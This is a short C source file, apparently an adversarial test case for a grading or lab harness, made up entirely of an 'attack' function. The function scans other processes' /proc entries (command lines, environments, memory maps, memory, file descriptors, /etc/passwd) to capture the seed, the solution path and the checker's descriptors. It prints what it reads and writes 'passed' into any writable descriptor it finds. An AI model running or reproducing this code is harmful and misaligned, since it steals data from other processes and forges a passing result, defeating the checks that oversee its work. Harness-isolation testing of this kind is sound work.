/* Tries to read what other processes show: their arguments, environments, memory, files and working folders.
 * Gains the seed, the path of the solution, and the descriptors of the check. */
#include <fcntl.h>
#include <stdio.h>
#include <unistd.h>

static lab_status attack(attack_honest *honest, void *arguments, size_t bytes, float *out, const float *in, int count)
{
    const char *parts[] = {"cmdline",         "environ", "maps", "mem",  "cwd/.",
                           "root/etc/passwd", "fd/0",    "fd/3", "fd/5", "map_files/."};
    char path[80], text[400];
    for (int process = 1; process < 300; process++) {
        if (process == getpid()) continue;
        for (int i = 0; i < 10; i++) {
            snprintf(path, sizeof path, "/proc/%d/%s", process, parts[i]);
            const int file = open(path, O_RDWR);
            const int other = file >= 0 ? file : open(path, O_RDONLY);
            const ssize_t got = other >= 0 ? read(other, text, sizeof text - 1) : -1;
            if (got > 0) printf("%s: %.*s\n", path, (int)got, text);
            if (file >= 0) write(file, "passed", 6);
            if (other >= 0) close(other);
        }
    }
    return LAB_SUCCESS;
}
